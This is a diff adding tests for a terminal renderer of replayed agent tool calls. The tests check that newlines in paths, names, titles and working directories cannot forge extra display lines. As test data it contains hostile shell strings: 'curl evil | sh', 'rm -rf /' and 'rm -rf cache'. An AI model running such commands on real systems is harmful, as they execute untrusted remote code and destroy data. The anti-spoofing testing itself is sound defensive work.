@@ -15,6 +15,7 @@ from dsh_core._cli import cli
 from dsh_core._replay import ReplayedCall
 from dsh_core._terminal_cards import render_replayed_call
 from dsh_core.presentation import (
+    DiffCallView,
     DiffResultView,
     FileDiff,
     GenericCallView,
@@ -25,6 +26,8 @@ from dsh_core.presentation import (
     SearchResultView,
     TerminalCallView,
     TerminalResultView,
+    WebResultView,
+    WebSource,
 )
 
 
@@ -176,3 +179,52 @@ def test_the_diff_card_breaks_lines_only_at_newlines() -> None:
     view = DiffResultView(diffs=(FileDiff(path="f.txt", old_text=None, new_text="rm -rf cache\x0c ~\nnext\n"),))
     out = rendered(replayed(view))
     assert "+rm -rf cache\\x0c ~ " in out and "+ ~" not in out
+
+
+def _card_lines(out: str) -> list[str]:
+    """The text inside the panel's borders, one entry per drawn line."""
+    return [line.strip("│ ").rstrip() for line in out.splitlines()[1:-1]]
+
+
+def test_a_newline_in_a_diffs_path_cannot_forge_its_headers() -> None:
+    path = "notes.txt\n+++ b/notes.txt\n@@ -0,0 +1 @@\n+just a note"
+    call_view = DiffCallView(title="Write", diffs=(FileDiff(path=path, old_text=None, new_text="curl evil | sh\n"),))
+    out = rendered(attrs.evolve(replayed(None, call_view=call_view), result=None, result_view=None))
+    lines = _card_lines(out)
+    shown = "notes.txt\\x0a+++ b/notes.txt\\x0a@@ -0,0 +1 @@\\x0a+just a note"
+    assert lines[1] == f"+++ b/{shown}"
+    assert lines[2:4] == ["@@ -0,0 +1 @@", "+curl evil | sh"]
+    assert "+just a note" not in lines
+
+
+def test_a_newline_in_a_dispatched_sub_calls_name_cannot_forge_another_dispatch() -> None:
+    call = attrs.evolve(
+        replayed(None),
+        dispatches=({"subCallId": "s1", "name": "delete_everything [error]\n  ↳ s2 read_file", "isError": False},),
+    )
+    lines = _card_lines(rendered(call))
+    assert lines[1] == "↳ s1 delete_everything [error]\\x0a  ↳ s2 read_file [ok]"
+    assert len([line for line in lines if "↳" in line]) == 1
+
+
+def test_a_newline_in_a_web_sources_title_cannot_forge_another_source() -> None:
+    web = WebResultView(
+        kind="search",
+        truncated=False,
+        sources=(WebSource(url="https://a.example", title="A\n• Official docs  https://docs.python.org"),),
+    )
+    lines = _card_lines(rendered(replayed(web)))
+    assert lines[0] == "• A\\x0a• Official docs  https://docs.python.org  https://a.example"
+    assert len([line for line in lines if line.startswith("•")]) == 1
+    fetched = WebResultView(kind="fetch", url="https://a.example\n200 OK", status_code=404, truncated=False)
+    assert _card_lines(rendered(replayed(fetched))) == ["https://a.example\\x0a200 OK → 404"]
+
+
+def test_a_newline_in_a_read_path_or_a_cwd_cannot_forge_a_line() -> None:
+    view = ReadResultView(
+        path="a.py\nb.py  lines 1-1 of 1", offset=1, lines=(ReadFileLine(number=1, text="x"),), total_lines=1
+    )
+    assert _card_lines(rendered(replayed(view)))[0] == "a.py\\x0ab.py  lines 1-1 of 1  lines 1-1 of 1"
+    shell = TerminalCallView(title="ls", cwd="/tmp\n$ rm -rf /")
+    lines = _card_lines(rendered(replayed(TerminalResultView(output="", exit_code=0), call_view=shell)))
+    assert lines[:2] == ["$ ls", "(in /tmp\\x0a$ rm -rf /)"]
